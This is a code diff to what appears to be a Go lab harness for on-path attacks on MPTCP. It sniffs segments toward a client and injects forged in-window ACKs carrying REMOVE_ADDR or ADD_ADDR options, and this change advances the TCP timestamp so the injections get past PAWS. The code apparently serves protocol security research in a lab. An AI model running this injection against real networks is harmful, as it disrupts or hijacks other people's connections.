@@ -406,6 +406,7 @@ func (r *Run) openSniffer() (*os.File, error) {
 			return err
 		}
 		_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_RCVBUF, 4<<20)
+		_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_TIMESTAMPNS, 1) // for sniffAt
 		f = os.NewFile(uintptr(fd), "attack-sniffer")
 		return nil
 	})
@@ -578,8 +579,9 @@ func (r *Run) startAttack(ctx context.Context) error {
 		client, own := r.lab.Addr(r.cfg.Client), r.lab.Addr(r.cfg.Attacker)
 		var mu sync.Mutex
 		var last *mptcpwire.Segment // the newest segment toward the client
+		var lastAt time.Time        // when it passed (the kernel's capture time)
 		r.wg.Add(1)
-		go r.sniff(sn, func(seg *mptcpwire.Segment) {
+		go r.sniffAt(sn, func(seg *mptcpwire.Segment, at time.Time) {
 			if seg.Dst != client {
 				return
 			}
@@ -599,20 +601,20 @@ func (r *Run) startAttack(ctx context.Context) error {
 				return
 			}
 			mu.Lock()
-			last = seg
+			last, lastAt = seg, at
 			mu.Unlock()
 		})
 		r.wg.Add(1)
 		go r.paced(ctx, func() error {
 			mu.Lock()
-			seg := last
+			seg, at := last, lastAt
 			mu.Unlock()
 			if seg == nil {
 				return errNothing
 			}
 			// An ACK of the same connection, in window: the sniffed
 			// segment's sequence number past its data, its ACK and
-			// timestamps, and the forged option.
+			// timestamps (TSval advanced to now), and the forged option.
 			opt := mptcpwire.RemoveAddrOpt(0)
 			if r.cfg.Kind == AddAddr {
 				// Every tenth is an ADD_ADDR echo, which carries no HMAC:
@@ -628,7 +630,7 @@ func (r *Run) startAttack(ctx context.Context) error {
 			}
 			opts := []mptcpwire.Option{opt}
 			if ts, ok := findKind(seg.Options, mptcpwire.OptTimestamp); ok {
-				opts = append([]mptcpwire.Option{{Kind: mptcpwire.OptNOP}, {Kind: mptcpwire.OptNOP}, ts}, opts...)
+				opts = append([]mptcpwire.Option{{Kind: mptcpwire.OptNOP}, {Kind: mptcpwire.OptNOP}, advanceTSval(ts, time.Since(at))}, opts...)
 			}
 			err := s.send(&mptcpwire.Segment{
 				Src: seg.Src, Dst: seg.Dst, ID: uint16(random32()), SrcPort: seg.SrcPort, DstPort: seg.DstPort,
@@ -646,6 +648,27 @@ func (r *Run) startAttack(ctx context.Context) error {
 
 // errNothing: an on-path attack has nothing to send yet.
 var errNothing = errors.New("nothing to send yet")
+
+// advanceTSval returns the timestamp option ts with its TSval advanced by
+// the whole milliseconds in age: the sender's TSval clock runs at 1 kHz
+// (Linux's, unless a route enables microsecond timestamps, which the lab
+// does not), so this is its TSval now, at most one tick behind. A segment
+// injected with the sniffed TSval unchanged is older than every segment of
+// the subflow sent since: once the receiver has seen one of those two
+// ticks newer, PAWS (RFC 7323) drops the injected segment before MPTCP
+// reads its options (TcpExt PAWSEstab). Under load the attacker lags the
+// subflow by several ms, and a third of the add-addr controls were lost
+// that way (each lost one with a PAWSEstab increment). Never ahead of the
+// sender's clock: a TSval from the future would make the receiver drop
+// the genuine segments after it.
+func advanceTSval(ts mptcpwire.Option, age time.Duration) mptcpwire.Option {
+	if len(ts.Data) != 8 || age <= 0 {
+		return ts
+	}
+	d := append([]byte(nil), ts.Data...)
+	binary.BigEndian.PutUint32(d, binary.BigEndian.Uint32(d)+uint32(age/time.Millisecond))
+	return mptcpwire.Option{Kind: ts.Kind, Data: d}
+}
 
 func findKind(opts []mptcpwire.Option, kind uint8) (mptcpwire.Option, bool) {
 	for _, o := range opts {
@@ -695,6 +718,44 @@ func (r *Run) paced(ctx context.Context, send func() error) {
 // the socket is closed.
 func (r *Run) sniff(f *os.File, fn func(*mptcpwire.Segment)) {
 	r.sniffLen(f, func(seg *mptcpwire.Segment, _ int) { fn(seg) })
+}
+
+// sniffAt is sniff with the time each packet passed: the kernel's receive
+// timestamp (SO_TIMESTAMPNS, which openSniffer sets), not when this
+// goroutine got to it (under load it lags the traffic by milliseconds).
+func (r *Run) sniffAt(f *os.File, fn func(*mptcpwire.Segment, time.Time)) {
+	defer r.wg.Done()
+	rc, err := f.SyscallConn()
+	if err != nil {
+		r.fail(fmt.Errorf("attack: sniffer: %w", err))
+		return
+	}
+	buf := make([]byte, 65536)
+	oob := make([]byte, 256)
+	for {
+		var n, oobn int
+		var rerr error
+		if err := rc.Read(func(fd uintptr) bool {
+			n, oobn, _, _, rerr = unix.Recvmsg(int(fd), buf, oob, 0)
+			return rerr != unix.EAGAIN
+		}); err != nil || rerr != nil {
+			return
+		}
+		at := time.Now()
+		if cms, err := unix.ParseSocketControlMessage(oob[:oobn]); err == nil {
+			for _, cm := range cms {
+				if cm.Header.Level == unix.SOL_SOCKET && cm.Header.Type == unix.SO_TIMESTAMPNS && len(cm.Data) >= 16 {
+					at = time.Unix(int64(binary.NativeEndian.Uint64(cm.Data)), int64(binary.NativeEndian.Uint64(cm.Data[8:])))
+				}
+			}
+		}
+		seg, _, err := mptcpwire.ParseIPv4(buf[:n], false)
+		if err != nil {
+			continue
+		}
+		r.sniffed.Add(1)
+		fn(seg, at)
+	}
 }
 
 // sniffLen is sniff with each packet's IP length.
